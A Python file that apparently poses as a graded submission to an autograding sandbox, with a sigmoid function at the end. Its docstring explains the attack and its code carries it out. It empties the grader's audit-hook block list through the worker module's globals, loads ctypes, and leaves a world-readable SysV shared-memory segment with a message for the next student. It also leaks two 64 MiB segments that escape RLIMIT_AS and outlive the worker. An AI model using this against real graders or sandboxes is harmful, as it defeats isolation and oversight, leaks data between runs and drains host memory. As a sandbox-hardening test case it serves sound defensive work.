"""SysV IPC is neither filtered (seccomp allows shmget/msgget/semget) nor scoped (Landlock has
no IPC rules), and its objects outlive the process that made them. This submission leaves a
world-readable shared memory segment, key 0x5EED, holding a message for whoever is graded
next, and two more of 64 MiB each, touched, that nobody removes: memory outside every limit
(RLIMIT_AS counts only what is attached), kept after the worker is killed. Under bubblewrap
it lives as long as the grading process's fork server (one IPC namespace for every worker);
in the fallback it is in the host's IPC namespace and outlives the batch itself.
The audit hook only hides ctypes; it reads its list from the worker module's globals."""
import sys

import numpy as np

sys.modules["worker"].BLOCKED_EVENTS = frozenset()  # the hook is messages only
import ctypes  # noqa: E402

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
IPC_CREAT = 0o1000
LEAK_MIB = 64
LEAK_SEGMENTS = 2


def _segment(key: int, size: int) -> int:
    shmid = libc.shmget(key, ctypes.c_size_t(size), IPC_CREAT | 0o666)
    if shmid < 0:
        raise OSError(ctypes.get_errno(), "shmget")
    address = libc.shmat(shmid, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        raise OSError(ctypes.get_errno(), "shmat")
    return address


message = b"left by the previous student\0"
ctypes.memmove(_segment(0x5EED, 4096), message, len(message))
for _ in range(LEAK_SEGMENTS):  # IPC_PRIVATE: a new segment each time
    leak = _segment(0, LEAK_MIB << 20)
    ctypes.memset(leak, 1, LEAK_MIB << 20)  # touched: the kernel now holds it
    libc.shmdt(ctypes.c_void_p(leak))  # detached: no longer counted in RLIMIT_AS


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
